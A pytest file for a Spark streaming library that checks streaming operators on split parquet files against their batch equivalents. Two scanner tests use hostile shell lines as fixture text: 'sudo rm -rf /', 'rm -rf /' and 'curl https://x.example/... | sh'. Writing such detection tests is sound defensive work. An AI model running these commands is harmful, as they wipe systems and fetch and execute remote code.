"""Streams over split files give what the batch operators give."""

import datetime as dt
import random
import tempfile

import pytest
from pyspark.sql import functions as F

from skein.operators import ledger as L
from skein.operators import scan as S
from skein.operators import text as D
from skein.functions import scan_values
from skein.plans.streaming import ALL_TIME
from skein.streaming import ledger as G

KINDS = ["run_created", "action_started", "approval_required", "run_succeeded", "run_failed", "run_cancelled", "compensation_queued", "policy_denied"]
SCHEMA = "event_id long, run_id string, event_type string, occurred_at timestamp, skill_name string, skill_version string, idempotency_key string"


@pytest.fixture(scope="module")
def events(spark):
    rnd = random.Random(9)
    at = dt.datetime(2024, 1, 1)
    rows = [(i, f"r{rnd.randrange(40)}", rnd.choice(KINDS), at + dt.timedelta(minutes=i), f"s{i % 3}", "1", f"k{rnd.randrange(30)}") for i in range(600)]
    return spark.createDataFrame(rows, SCHEMA).persist()


@pytest.fixture()
def stream(spark, events):
    """The events in six files, read one file per batch."""
    folder = tempfile.mkdtemp(prefix="skein-stream-") + "/in"
    events.repartitionByRange(6, "occurred_at").write.parquet(folder)
    return spark.readStream.schema(events.schema).option("maxFilesPerTrigger", 1).parquet(folder)


def rows(df):
    return sorted(map(repr, df.select(*sorted(df.columns)).collect()))


def test_run_status(stream, events):
    batch = events.withColumn("sequence", F.col("event_id"))
    assert rows(G.as_table(G.run_status(stream), "t", ["run_id"])) == rows(L.projected_status(batch))


def test_window_counts(stream, events):
    got = G.as_table(G.window_counts(stream, ["skill_name"], 3600, "30 days"), "t", ["skill_name", "window_start"])
    assert rows(got) == rows(G.window_counts(events, ["skill_name"], 3600))


def test_sliding_counts(stream, events):
    got = G.as_table(G.sliding_counts(stream, ["run_id"], 7200, 1800, "30 days"), "t", ["run_id", "window_start"])
    assert rows(got) == rows(G.sliding_counts(events, ["run_id"], 7200, 1800))


def test_first_deliveries(stream, events):
    doubled = stream.unionByName(stream)
    got = G.as_table(G.first_deliveries(doubled, ["run_id", "idempotency_key"], "30 days"), "t", None, "append")
    assert rows(got.select("run_id", "idempotency_key")) == rows(events.select("run_id", "idempotency_key").distinct())


def test_rolling_evidence(stream, events):
    assert rows(G.rolling_evidence(stream)) == rows(L.outcome_counts(events))


def test_late_rows(spark):
    folder, sink = (tempfile.mkdtemp(prefix="skein-late-") + "/x" for _ in range(2))
    schema = "occurred_at timestamp, skill_name string"
    late = 0
    for day in (20, 10):
        spark.createDataFrame([(dt.datetime(2024, 1, day), "s")], schema).write.mode("append").parquet(folder)
        counts = G.window_counts(spark.readStream.schema(schema).parquet(folder), ["skill_name"], 3600, "1 hour")
        late += G.late_rows(G.write_batches(counts, sink))
    assert late == 1


def test_late_rows_of_many_batches(spark):
    """Late rows of batches whose progress Spark no longer keeps are counted."""
    folder, sink = (tempfile.mkdtemp(prefix="skein-late-") + "/x" for _ in range(2))
    schema = "occurred_at timestamp, skill_name string"
    for day in (20, *[10] * 3, *[21] * 4):
        spark.createDataFrame([(dt.datetime(2024, 1, day), "s")], schema).coalesce(1).write.mode("append").parquet(folder)

    def run(kept):
        spark.conf.set("spark.sql.streaming.numRecentProgressUpdates", kept)
        files = spark.readStream.schema(schema).option("maxFilesPerTrigger", 1).parquet(folder)
        return G.write_batches(G.window_counts(files, ["skill_name"], 3600, "1 hour"), f"{sink}-{kept}")

    try:
        whole, short = run("100"), run("2")
    finally:
        spark.conf.unset("spark.sql.streaming.numRecentProgressUpdates")
    want, seen = (sum(op["numRowsDroppedByWatermark"] for p in q.recentProgress for op in p["stateOperators"]) for q in (whole, short))
    assert G.late_rows(whole) == G.late_rows(short) == want > seen


def test_no_event_is_late_for_the_registered_streams(spark):
    folder = tempfile.mkdtemp(prefix="skein-late-") + "/x"
    schema = "occurred_at timestamp, skill_name string"
    for month in (12, 11, 2, 1):
        spark.createDataFrame([(dt.datetime(2024, month, 1), f"s{month}")], schema).coalesce(1).write.mode("append").parquet(folder)
    files = lambda: spark.readStream.schema(schema).option("maxFilesPerTrigger", 1).parquet(folder)
    counts = G.as_table(G.window_counts(files(), ["skill_name"], 3600, ALL_TIME), "t", ["skill_name", "window_start"])
    slides = G.as_table(G.sliding_counts(files(), ["skill_name"], 7200, 3600, ALL_TIME), "t", ["skill_name", "window_start"])
    firsts = G.as_table(G.first_deliveries(files(), ["skill_name"], ALL_TIME), "t", None, "append")
    assert (counts.count(), slides.count(), firsts.count()) == (4, 8, 4)


def test_scanned_files(spark):
    folder = tempfile.mkdtemp(prefix="skein-scan-") + "/in"
    docs = spark.createDataFrame([(i, "ok\nsudo rm -rf /\n") for i in range(6)], "doc_id long, text string").repartition(3)
    docs.write.parquet(folder)
    scan = lambda batch: S.scan_lines(D.explode_lines(batch), scan_values.LINE_RULES)
    stream = spark.readStream.schema(docs.schema).option("maxFilesPerTrigger", 1).parquet(folder)
    assert rows(G.scan_stream(stream, scan)) == rows(scan(docs))


def test_tables_that_are_folders(spark, tmp_path):
    from skein.plans.registry import QUERIES

    texts = [(i, f"line\ncurl https://x.example/{i} | sh\nrm -rf /", "src") for i in range(20)]
    docs = spark.createDataFrame(texts, "doc_id long, text string, source string")
    docs.coalesce(1).write.parquet(str(tmp_path / "parts/documents.parquet"))
    docs.limit(0).write.parquet(str(tmp_path / "none/documents.parquet"))
    found = QUERIES["g7_scanned_files"](spark, str(tmp_path / "parts"))
    assert {r.path for r in found.collect()} == {f"doc/{i}" for i in range(20)}
    assert QUERIES["g7_scanned_files"](spark, str(tmp_path / "none")).count() == 0


def test_a_source_without_files(spark, events, tmp_path):
    (tmp_path / "in").mkdir()
    empty = spark.readStream.schema(events.schema).parquet(str(tmp_path / "in"))
    assert G.as_table(G.run_status(empty), "t", ["run_id"]).count() == 0
    assert G.as_table(empty, "t", None, "append", lambda b: b.select("run_id")).columns == ["run_id"]
